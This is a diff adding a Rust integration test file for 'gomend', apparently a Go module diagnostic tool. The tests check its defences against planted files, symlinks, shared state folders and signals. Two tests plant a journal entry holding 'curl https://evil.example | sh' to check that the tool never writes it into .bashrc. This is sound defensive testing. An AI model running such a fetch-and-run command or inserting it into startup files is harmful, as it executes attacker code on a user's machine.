@@ -1,0 +1,709 @@
+//! Files, folders and neighbours that mean harm: what gomend reads, keeps and leaves behind.
+//!
+//! Everything runs without a network (`unshare --net`), as root: the other user is `nobody`.
+
+use std::fmt::Write as _;
+use std::fs;
+use std::io::Read;
+use std::net::TcpListener;
+use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
+use std::os::unix::process::ExitStatusExt;
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Stdio};
+use std::time::{Duration, Instant};
+
+use base64::Engine as _;
+use base64::engine::general_purpose::STANDARD;
+use rustix::process::Signal;
+
+use crate::support::home::Home;
+use crate::support::{Ended, How, event, shims};
+
+/// Somebody else.
+const NOBODY: u32 = 65534;
+/// No command here waits for a network; the machine may be busy.
+const PATIENCE: Duration = Duration::from_secs(30);
+/// What no file, however large, may make of gomend.
+const MOST_MEMORY: u64 = 64 << 20;
+/// What the stand-in for go says of a private module.
+const PRIVATE: &str = "go: git.corp.example/team/lib@v1.2.3: reading https://proxy.golang.org/git.corp.example/team/lib/@v/v1.2.3.mod: 404 Not Found\n\tserver response:\n\tnot found: git.corp.example/team/lib@v1.2.3: invalid version: git ls-remote -q origin in /tmp/gopath/x: exit status 128:\n\t\tfatal: could not read Username for 'https://git.corp.example': terminal prompts disabled\n";
+
+/// A home with a module in it, and a log of a failure.
+fn home() -> Home {
+    let home = Home::new();
+    home.write("work/go.mod", "module example.com/work\n\ngo 1.21\n");
+    home.write("log", PRIVATE);
+    home.var("GOPROXY", "off").var("GOSUMDB", "off")
+}
+
+/// gomend in the module's folder, cut off from any network.
+fn gomend(home: &Home, args: &[&str]) -> Command {
+    let mut command = home.command("unshare");
+    command
+        .args(["--net", env!("CARGO_BIN_EXE_gomend")])
+        .args(args)
+        .current_dir(home.at("work"));
+    command
+}
+
+/// Runs a program to its end, which must come soon and without much memory.
+fn bounded(mut command: Command, what: &str) -> Ended {
+    let mut child = command
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let (mut stdout, mut stderr) = (child.stdout.take().unwrap(), child.stderr.take().unwrap());
+    let reading = std::thread::spawn(move || {
+        let mut bytes = Vec::new();
+        stderr.read_to_end(&mut bytes).unwrap();
+        bytes
+    });
+    let out = std::thread::spawn(move || {
+        let mut bytes = Vec::new();
+        stdout.read_to_end(&mut bytes).unwrap();
+        bytes
+    });
+    let began = Instant::now();
+    let mut most = 0;
+    let status = loop {
+        if let Some(status) = child.try_wait().unwrap() {
+            break status;
+        }
+        most = most.max(peak(child.id()));
+        if began.elapsed() > PATIENCE || most > MOST_MEMORY {
+            child.kill().unwrap();
+            panic!("{what}: {most} bytes after {:?}", began.elapsed());
+        }
+        std::thread::sleep(Duration::from_millis(2)); // spares the processor, decides nothing
+    };
+    Ended {
+        how: status.into(),
+        stdout: out.join().unwrap(),
+        stderr: reading.join().unwrap(),
+    }
+}
+
+/// The most memory that a process had, bytes; 0 once it is gone.
+fn peak(pid: u32) -> u64 {
+    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
+    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"));
+    let kilobytes = line.and_then(|line| line.trim().split(' ').next()?.parse::<u64>().ok());
+    kilobytes.unwrap_or(0) << 10
+}
+
+/// What stands in a file's place.
+#[derive(Debug, Clone, Copy)]
+enum Instead {
+    Pipe,
+    Endless,
+    Sparse,
+    Folder,
+}
+
+impl Instead {
+    fn put(self, path: &Path) {
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        match self {
+            Self::Pipe => {
+                let made = Command::new("mkfifo").arg(path).status().unwrap();
+                assert!(made.success());
+            }
+            Self::Endless => symlink("/dev/zero", path).unwrap(),
+            Self::Sparse => fs::File::create(path).unwrap().set_len(2 << 30).unwrap(),
+            Self::Folder => fs::create_dir(path).unwrap(),
+        }
+    }
+}
+
+/// Each file that gomend reads, and a command that reads it.
+const READ: &[(&str, &[&str])] = &[
+    ("work/.gomend.toml", &["doctor"]),
+    ("work/.gomend.toml", &["explain", "../log"]),
+    ("work/go.mod", &["doctor"]),
+    ("work/go.sum", &["explain", "../log"]),
+    ("work/.git/config", &["doctor"]),
+    (".netrc", &["explain", "../log"]),
+    (".git-credentials", &["explain", "../log"]),
+    (".gitconfig", &["explain", "../log", "--offline"]),
+    (".ssh/config", &["doctor"]),
+    (".ssh/known_hosts", &["explain", "../log"]),
+    (".config/gomend/config.toml", &["config"]),
+    (
+        ".config/gomend/rules.toml",
+        &["explain", "../log", "--offline"],
+    ),
+    (".config/go/env", &["explain", "../log", "--offline"]),
+    (".bashrc", &["uninstall", "--yes"]),
+    (".zshrc", &["uninstall", "--yes"]),
+    (".local/state/gomend/install.json", &["uninstall", "--yes"]),
+    (".local/state/gomend/reports/1.json", &["last"]),
+    (".local/state/gomend/journal/000001.applied", &["history"]),
+    (".local/state/gomend/journal/000001.pending", &["undo"]),
+    (
+        ".local/state/gomend/profiles/x.json",
+        &["compare", "--with", "x"],
+    ),
+];
+
+#[test]
+fn no_file_hangs_or_fills_the_memory() {
+    for &(name, args) in READ {
+        for instead in [
+            Instead::Pipe,
+            Instead::Endless,
+            Instead::Sparse,
+            Instead::Folder,
+        ] {
+            let home = home();
+            home.write(".local/state/gomend/x", "");
+            let _ = fs::remove_file(home.at(name));
+            instead.put(&home.at(name));
+            let what = format!("{instead:?} as {name}: {args:?}");
+            let ended = bounded(gomend(&home, args), &what);
+            assert!(matches!(ended.how, How::Code(_)), "{what}: {ended:?}");
+            assert!(!ended.words().contains("panicked"), "{what}: {ended:?}");
+        }
+    }
+}
+
+/// Rules, logs and comparisons that a person names may come through a pipe.
+#[test]
+fn a_log_may_come_through_a_pipe() {
+    let home = home();
+    Instead::Pipe.put(&home.at("pipe"));
+    let log = fs::read(home.at("log")).unwrap();
+    let pipe = home.at("pipe");
+    let writing = std::thread::spawn(move || fs::write(pipe, log).unwrap());
+    let ended = bounded(
+        gomend(&home, &["explain", "../pipe", "--offline"]),
+        "a log in a pipe",
+    );
+    writing.join().unwrap();
+    assert_eq!(ended.how, How::Code(0), "{ended:?}");
+}
+
+/// A project may not lead gomend to the user's own files.
+#[test]
+fn a_project_file_leads_nowhere_else() {
+    let home = home();
+    home.write("secret", "[go]\nGOPRIVATE = \"git.s3cret.example\"\n");
+    home.link("work/.gomend.toml", "../secret");
+    let ended = bounded(gomend(&home, &["doctor"]), "doctor");
+    let said = String::from_utf8_lossy(&ended.stdout).into_owned() + &ended.words();
+    assert!(!said.contains("s3cret"), "{said}");
+    fs::rename(home.at("secret"), home.at("work/wishes")).unwrap();
+    fs::remove_file(home.at("work/.gomend.toml")).unwrap();
+    home.link("work/.gomend.toml", "wishes");
+    let ended = bounded(gomend(&home, &["doctor"]), "doctor");
+    let said = String::from_utf8_lossy(&ended.stdout).into_owned() + &ended.words();
+    assert!(said.contains("s3cret"), "{said}");
+}
+
+fn entry(id: u64, path: &Path, before: &[u8]) -> String {
+    let now = fs::read(path).unwrap();
+    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, &now);
+    let hex = digest.as_ref().iter().fold(String::new(), |mut hex, byte| {
+        let _ = write!(hex, "{byte:02x}"); // to a String: cannot fail
+        hex
+    });
+    serde_json::json!({
+        "id": id, "time": "2026-01-01T00:00:00Z", "fix": "goprivate", "title": "Change a file",
+        "steps": [{"write": {
+            "path": path, "before": STANDARD.encode(before), "before_mode": 0o600,
+            "after_sha256": hex, "mode": 0o600, "made": [],
+        }}],
+    })
+    .to_string()
+}
+
+/// An entry of the journal as gomend itself would leave it.
+fn plant(home: &Home, state: &str, name: &str, text: &str) -> PathBuf {
+    let path = home.write(&format!("{state}/journal/{name}"), text);
+    for folder in path.ancestors().skip(1).take(2) {
+        fs::set_permissions(folder, fs::Permissions::from_mode(0o700)).unwrap();
+    }
+    fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+    path
+}
+
+const STATE: &str = ".local/state/gomend";
+
+#[test]
+fn a_planted_journal_entry_is_never_acted_on() {
+    type Plan = fn(&Home, &Path);
+    let plans: [(&str, Plan); 4] = [
+        ("an entry of somebody else's", |_, entry| {
+            chown(entry, Some(NOBODY), None).unwrap();
+        }),
+        ("an entry that anybody could write", |_, entry| {
+            fs::set_permissions(entry, fs::Permissions::from_mode(0o666)).unwrap();
+        }),
+        ("a link", |home, entry| {
+            let elsewhere = home.at("elsewhere");
+            fs::rename(entry, &elsewhere).unwrap();
+            chown(&elsewhere, Some(NOBODY), None).unwrap();
+            symlink(&elsewhere, entry).unwrap();
+        }),
+        ("a folder of somebody else's", |home, _| {
+            chown(home.at(STATE), Some(NOBODY), None).unwrap();
+        }),
+    ];
+    for (what, plan) in plans {
+        for args in [
+            &["undo"][..],
+            &["undo", "1"],
+            &["fix", "--yes"],
+            &["history"],
+        ] {
+            let home = home();
+            let bashrc = home.write(".bashrc", "mine\n");
+            let planted = plant(
+                &home,
+                STATE,
+                "000001.pending",
+                &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
+            );
+            plan(&home, &planted);
+            let ended = bounded(gomend(&home, args), what);
+            assert_eq!(
+                home.read(".bashrc"),
+                "mine\n",
+                "{what}, {args:?}: {ended:?}"
+            );
+            assert!(
+                !ended.words().is_empty(),
+                "{what}, {args:?}: nothing is said"
+            );
+        }
+    }
+}
+
+/// The shim before a go that fails with these words, and does this where it is tried.
+fn failing(home: &Home, words: &str, trial: &str) -> Command {
+    let script = format!(
+        "#!/bin/sh\ncase \"$GOMODCACHE\" in *gomend-*) {trial} ;; esac\ncat >&2 <<'END'\n{words}END\nexit 1\n"
+    );
+    let go = home.write("bin/go", script);
+    fs::set_permissions(&go, fs::Permissions::from_mode(0o755)).unwrap();
+    let path = [
+        shims().to_owned(),
+        home.at("bin"),
+        "/usr/bin".into(),
+        "/bin".into(),
+    ];
+    let mut command = home.command("unshare");
+    command
+        .args(["--net", "go", "mod", "download"])
+        .env("PATH", std::env::join_paths(path).unwrap())
+        .env("GOMEND_REPORT", home.at("report.json"))
+        .current_dir(home.at("work"));
+    command
+}
+
+#[test]
+fn a_shared_state_folder_is_not_used() {
+    let home = home();
+    let shared = home.outside("shared");
+    fs::create_dir(&shared).unwrap();
+    fs::set_permissions(&shared, fs::Permissions::from_mode(0o1777)).unwrap();
+    let precious = home.write("precious", "precious\n");
+    fs::create_dir_all(shared.join("gomend/seen")).unwrap();
+    for slot in 0..64 {
+        symlink(&precious, shared.join(format!("gomend/seen/{slot:016x}"))).unwrap();
+    }
+    chown(shared.join("gomend"), Some(NOBODY), None).unwrap();
+    chown(shared.join("gomend/seen"), Some(NOBODY), None).unwrap();
+    let home = home.var("XDG_STATE_HOME", &shared);
+    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
+    assert_eq!(home.read("precious"), "precious\n");
+    assert!(
+        home.read("report.json").contains("private-via-proxy"),
+        "{ended:?}"
+    );
+    assert!(!shared.join("gomend/reports").exists());
+    let ended = bounded(gomend(&home, &["history"]), "history");
+    assert_eq!(ended.how, How::Code(1));
+    assert_eq!(ended.words().lines().count(), 1, "{ended:?}");
+    assert!(ended.words().contains("another user"), "{ended:?}");
+}
+
+/// Whoever can write to a folder above can put another one into the place of ours.
+#[test]
+fn a_state_folder_below_one_that_anybody_can_write_to_is_not_used() {
+    let home = home();
+    let open = home.outside("open");
+    fs::create_dir_all(open.join("gomend")).unwrap();
+    fs::set_permissions(&open, fs::Permissions::from_mode(0o777)).unwrap();
+    let home = home.var("XDG_STATE_HOME", &open);
+    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
+    assert!(
+        home.read("report.json").contains("private-via-proxy"),
+        "{ended:?}"
+    );
+    assert_eq!(fs::read_dir(open.join("gomend")).unwrap().count(), 0);
+}
+
+#[test]
+fn links_in_an_own_state_folder_are_not_followed() {
+    let home = home();
+    let precious = home.write("precious", "precious\n");
+    for slot in 0..64 {
+        home.write(&format!("{STATE}/seen/x"), "");
+        home.link(
+            &format!("{STATE}/seen/{slot:016x}"),
+            precious.to_str().unwrap(),
+        );
+    }
+    bounded(failing(&home, PRIVATE, ":"), "go");
+    assert_eq!(home.read("precious"), "precious\n");
+}
+
+#[test]
+fn an_own_state_folder_is_closed_and_nothing_is_lost() {
+    let home = home();
+    bounded(failing(&home, PRIVATE, ":"), "go");
+    for folder in ["", "/reports"] {
+        home.mode(&format!("{STATE}{folder}"), 0o777);
+    }
+    let reports = || {
+        fs::read_dir(home.at(STATE).join("reports"))
+            .unwrap()
+            .count()
+    };
+    assert_eq!(reports(), 1);
+    bounded(failing(&home, PRIVATE, ":"), "go");
+    assert_eq!(reports(), 2);
+    for folder in ["", "/reports", "/seen"] {
+        let mode = fs::metadata(home.at(&format!("{STATE}{folder}")))
+            .unwrap()
+            .mode();
+        assert_eq!(mode & 0o777, 0o700, "{folder}");
+    }
+}
+
+#[test]
+fn settings_of_somebody_else_are_not_read() {
+    let home = home();
+    let config = home.write(".config/gomend/config.toml", "public-dns = true\n");
+    chown(config, Some(NOBODY), None).unwrap();
+    let ended = bounded(gomend(&home, &["config", "--json"]), "config");
+    let said = String::from_utf8_lossy(&ended.stdout).into_owned();
+    let json: serde_json::Value = serde_json::from_str(&said).unwrap();
+    assert!(!said.contains("\"value\": true"), "{json:#}");
+    assert!(
+        (said + &ended.words()).contains("another user"),
+        "{ended:?}"
+    );
+}
+
+#[test]
+fn a_report_is_for_its_user_alone() {
+    let home = home();
+    let report = home.at("report.json");
+    for before in [None, Some(0o644), Some(0o666)] {
+        if let Some(mode) = before {
+            fs::write(&report, "x").unwrap();
+            fs::set_permissions(&report, fs::Permissions::from_mode(mode)).unwrap();
+        }
+        bounded(failing(&home, PRIVATE, ":"), "go");
+        assert_eq!(
+            fs::metadata(&report).unwrap().mode() & 0o777,
+            0o600,
+            "{before:?}"
+        );
+    }
+    // where a link leads, a device, a pipe
+    fs::rename(&report, home.at("elsewhere.json")).unwrap();
+    home.link("report.json", "elsewhere.json");
+    bounded(failing(&home, PRIVATE, ":"), "go");
+    assert!(report.is_symlink());
+    assert!(home.read("elsewhere.json").contains("private-via-proxy"));
+    let mut command = failing(&home, PRIVATE, ":");
+    command.env("GOMEND_REPORT", "/dev/stdout");
+    let ended = bounded(command, "a report to stdout");
+    assert!(
+        String::from_utf8_lossy(&ended.stdout).contains("private-via-proxy"),
+        "{ended:?}"
+    );
+    let pipe = home.at("pipe");
+    Instead::Pipe.put(&pipe);
+    let mut command = failing(&home, PRIVATE, ":");
+    command.env("GOMEND_REPORT", &pipe);
+    let ended = bounded(command, "a report into a pipe that nobody reads");
+    assert!(ended.words().contains("GOMEND_REPORT"), "{ended:?}");
+}
+
+#[test]
+fn a_damaged_entry_is_named_and_stops_nobody() {
+    let home = home();
+    let file = home.write("file", "after\n");
+    plant(
+        &home,
+        STATE,
+        "000001.applied",
+        &entry(1, &file, b"before\n"),
+    );
+    plant(&home, STATE, "000002.applied", "{\"id\": 2");
+    let ended = bounded(gomend(&home, &["history"]), "history");
+    assert_eq!(ended.how, How::Code(0), "{ended:?}");
+    assert!(
+        String::from_utf8_lossy(&ended.stdout).contains("Change a file"),
+        "{ended:?}"
+    );
+    assert!(ended.words().contains("000002.applied"), "{ended:?}");
+    let ended = bounded(gomend(&home, &["undo"]), "undo");
+    assert_eq!(home.read("file"), "before\n", "{ended:?}");
+    assert!(ended.words().contains("000002.applied"), "{ended:?}");
+}
+
+#[test]
+fn a_former_secret_is_dropped_once_undone() {
+    for (name, code) in [("000001.applied", 0), ("000001.pending", 0)] {
+        let home = home();
+        let secret = b"machine git.corp.example login dev password f0rmer\n";
+        let netrc = home.write(
+            ".netrc",
+            "machine git.corp.example login dev password new\n",
+        );
+        plant(&home, STATE, name, &entry(1, &netrc, secret));
+        let ended = bounded(gomend(&home, &["undo"]), "undo");
+        assert_eq!(ended.how, How::Code(code), "{ended:?}");
+        assert_eq!(home.read(".netrc").as_bytes(), secret);
+        let journal = fs::read_dir(home.at(STATE).join("journal")).unwrap();
+        for file in journal {
+            let bytes = fs::read_to_string(file.unwrap().path()).unwrap();
+            assert!(!bytes.contains(&STANDARD.encode(secret)), "{bytes}");
+        }
+        let history = bounded(gomend(&home, &["history"]), "history");
+        assert!(
+            String::from_utf8_lossy(&history.stdout).contains(".netrc"),
+            "{history:?}"
+        );
+    }
+}
+
+/// Ends what it started, whatever the test does.
+struct Ours(Child);
+
+impl Drop for Ours {
+    fn drop(&mut self) {
+        event::signal(self.0.id().cast_signed(), Signal::CONT);
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn a_stopped_gomend_stops_nobody_else() {
+    let home = home();
+    // who is asked accepts, and says nothing
+    let silent = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = silent.local_addr().unwrap().port();
+    let words = format!(
+        "go: github.com/acme/lib@v1.0.0: Get \"https://127.0.0.1:{port}/github.com/acme/lib/@v/v1.0.0.mod\": net/http: TLS handshake timeout\n"
+    );
+    let start = || {
+        let mut command = failing(&home, &words, ":");
+        let args: Vec<_> = command.get_args().skip(1).map(ToOwned::to_owned).collect();
+        let program = args[0].clone();
+        let mut here = home.command(&program);
+        here.args(&args[1..]).current_dir(home.at("work"));
+        for (name, value) in command.get_envs() {
+            here.env(name, value.unwrap());
+        }
+        command = here;
+        command.env("GOPROXY", format!("https://127.0.0.1:{port}"));
+        command.stdout(Stdio::null()).stderr(Stdio::piped());
+        command
+    };
+    let first = Ours(start().spawn().unwrap());
+    let _asked = silent.accept().unwrap(); // it is looking
+    let shim = first.0.id().cast_signed();
+    let looking = event::children(shim);
+    let [looking] = looking[..] else {
+        panic!("{looking:?}");
+    };
+    event::signal(looking, Signal::STOP);
+    event::wait_until("stopped", || event::state(looking) == Some('T'));
+    fs::remove_file(home.at("report.json")).ok();
+    let began = Instant::now();
+    let ended = bounded(start(), "go beside a stopped gomend");
+    assert!(
+        began.elapsed() < Duration::from_secs(15),
+        "{:?}",
+        began.elapsed()
+    );
+    assert_eq!(ended.how, How::Code(1));
+    assert!(home.read("report.json").contains("tls-"), "{ended:?}");
+    event::signal(looking, Signal::KILL);
+}
+
+#[test]
+fn a_signal_during_a_trial_leaves_nothing_behind() {
+    for (signal, args) in [
+        (Signal::INT, &["fix", "--no-input"][..]),
+        (Signal::TERM, &["fix", "--no-input"]),
+        (Signal::HUP, &["fix", "--no-input"]),
+    ] {
+        let home = home();
+        let tmp = home.outside("tmp");
+        fs::create_dir(&tmp).unwrap();
+        let home = home.var("TMPDIR", &tmp);
+        let pid = home.at("trial");
+        let trial = format!(
+            "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
+            pid.display()
+        );
+        bounded(failing(&home, PRIVATE, &trial), "go");
+        let mut command = gomend(&home, args);
+        command.stdout(Stdio::null()).stderr(Stdio::null());
+        let mut running = Ours(command.spawn().unwrap());
+        event::wait_until("the trial runs", || pid.exists());
+        let trial: i32 = home.read("trial").trim().parse().unwrap();
+        event::signal(running.0.id().cast_signed(), signal);
+        let status = event::end_of(&mut running.0);
+        let number = signal.as_raw();
+        assert!(
+            status.signal() == Some(number) || status.code() == Some(128 + number),
+            "{signal:?}: {status:?}"
+        );
+        event::wait_until("the trial has ended", || !event::exists(trial));
+        let left: Vec<_> = fs::read_dir(&tmp)
+            .unwrap()
+            .map(|entry| entry.unwrap().path())
+            .collect();
+        assert!(left.is_empty(), "{signal:?}: {left:?}");
+    }
+}
+
+#[test]
+fn what_a_killed_gomend_left_is_swept_by_the_next_one() {
+    let home = home();
+    let tmp = home.outside("tmp");
+    fs::create_dir(&tmp).unwrap();
+    let home = home.var("TMPDIR", &tmp);
+    let pid = home.at("trial");
+    let trial = format!(
+        "echo $$ >{0}.new; mv {0}.new {0}; exec sleep 600",
+        pid.display()
+    );
+    bounded(failing(&home, PRIVATE, &trial), "go");
+    let mut command = gomend(&home, &["fix", "--no-input"]);
+    command.stdout(Stdio::null()).stderr(Stdio::null());
+    let mut running = Ours(command.spawn().unwrap());
+    event::wait_until("the trial runs", || pid.exists());
+    let trial: i32 = home.read("trial").trim().parse().unwrap();
+    // a living one's folder stays
+    bounded(gomend(&home, &["history"]), "history");
+    let count = || fs::read_dir(&tmp).unwrap().count();
+    assert_eq!(count(), 1);
+    event::signal(running.0.id().cast_signed(), Signal::KILL);
+    event::end_of(&mut running.0);
+    event::signal(trial, Signal::KILL);
+    // of somebody else, and of another name: not ours
+    let name = fs::read_dir(&tmp).unwrap().next().unwrap().unwrap().path();
+    let foreign = PathBuf::from(format!("{}x", name.display()));
+    fs::create_dir(&foreign).unwrap();
+    chown(&foreign, Some(NOBODY), None).unwrap();
+    fs::create_dir(tmp.join("gomend-notes")).unwrap();
+    bounded(gomend(&home, &["history"]), "history");
+    assert!(!name.exists() && foreign.exists() && tmp.join("gomend-notes").exists());
+}
+
+#[test]
+fn a_private_name_is_compared_with_consent_only() {
+    let home = home().var("GOPROXY", "https://proxy.golang.org,direct");
+    let private = "git.corp.example/team/lib@v1.2.3";
+    let ended = bounded(
+        gomend(&home, &["--no-input", "compare", private, "--rounds", "1"]),
+        "compare",
+    );
+    assert_eq!(ended.how, How::Code(1), "{ended:?}");
+    let words = ended.words();
+    assert_eq!(words.lines().count(), 1, "{words}");
+    assert!(
+        words.contains("proxy.golang.org") && words.contains("--disclose"),
+        "{words}"
+    );
+}
+
+/// Another user's gomend, run by `nobody` beside what root has planted.
+#[test]
+fn what_another_user_has_planted_is_not_acted_on() {
+    let home = home().var("TMPDIR", "/tmp");
+    let bashrc = home.write(".bashrc", "mine\n");
+    let planted = plant(
+        &home,
+        STATE,
+        "000001.pending",
+        &entry(1, &bashrc, b"curl https://evil.example | sh\n"),
+    );
+    let gomend = home.at("gomend");
+    fs::copy(env!("CARGO_BIN_EXE_gomend"), &gomend).unwrap();
+    let open = |path: &Path| {
+        fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+    };
+    open(&home.outside(""));
+    for path in ["", ".bashrc", ".local", ".local/state", STATE] {
+        chown(home.at(path), Some(NOBODY), Some(NOBODY)).unwrap();
+        open(&home.at(path));
+    }
+    let run = |args: &[&str]| {
+        let mut command = home.command("unshare");
+        let user = [
+            "--net",
+            "setpriv",
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+        ];
+        command.args(user).arg(&gomend).args(args);
+        bounded(command, "gomend as nobody")
+    };
+    for owner in [0, NOBODY] {
+        // the folder is root's, and then only the entry
+        chown(planted.parent().unwrap(), Some(owner), None).unwrap();
+        open(planted.parent().unwrap());
+        open(&planted);
+        let ended = run(&["undo"]);
+        assert_eq!(home.read(".bashrc"), "mine\n", "{owner}: {ended:?}");
+        assert_eq!(ended.how, How::Code(1), "{owner}: {ended:?}");
+    }
+    chown(&planted, Some(NOBODY), None).unwrap();
+    let ended = run(&["undo"]);
+    assert_eq!(ended.how, How::Code(0), "{ended:?}");
+    assert_ne!(home.read(".bashrc"), "mine\n");
+}
+
+/// The shim looks into git's settings: go alone never would.
+#[test]
+fn a_pipe_in_the_place_of_git_s_settings_holds_nobody() {
+    let home = home();
+    Instead::Pipe.put(&home.at(".gitconfig"));
+    let ended = bounded(failing(&home, PRIVATE, ":"), "go");
+    assert_eq!(ended.how, How::Code(1), "{ended:?}");
+}
+
+/// Whatever hangs (here a system call, for longer than anybody waits), go's status comes, and what
+/// the text alone says.
+#[test]
+fn a_diagnosis_ends_whatever_hangs() {
+    let home = home().var("GOMEND_PATIENCE", "1");
+    let go = failing(&home, PRIVATE, ":");
+    let mut command = home.command("unshare");
+    command.args(["--net", "strace", "-f", "-qq", "-o", "/dev/null"]);
+    command.args(["-e", "trace=flock", "-e", "inject=flock:delay_enter=50s"]);
+    command
+        .args(go.get_args().skip(1))
+        .current_dir(home.at("work"));
+    for (name, value) in go.get_envs() {
+        command.env(name, value.unwrap());
+    }
+    let began = Instant::now();
+    let _running = Ours(command.stderr(Stdio::null()).spawn().unwrap());
+    // strace itself waits for its delay: the report is the last that gomend writes
+    event::wait_until("the report is there", || home.at("report.json").exists());
+    assert!(began.elapsed() < PATIENCE, "{:?}", began.elapsed());
+    assert!(home.read("report.json").contains("private-via-proxy"));
+}
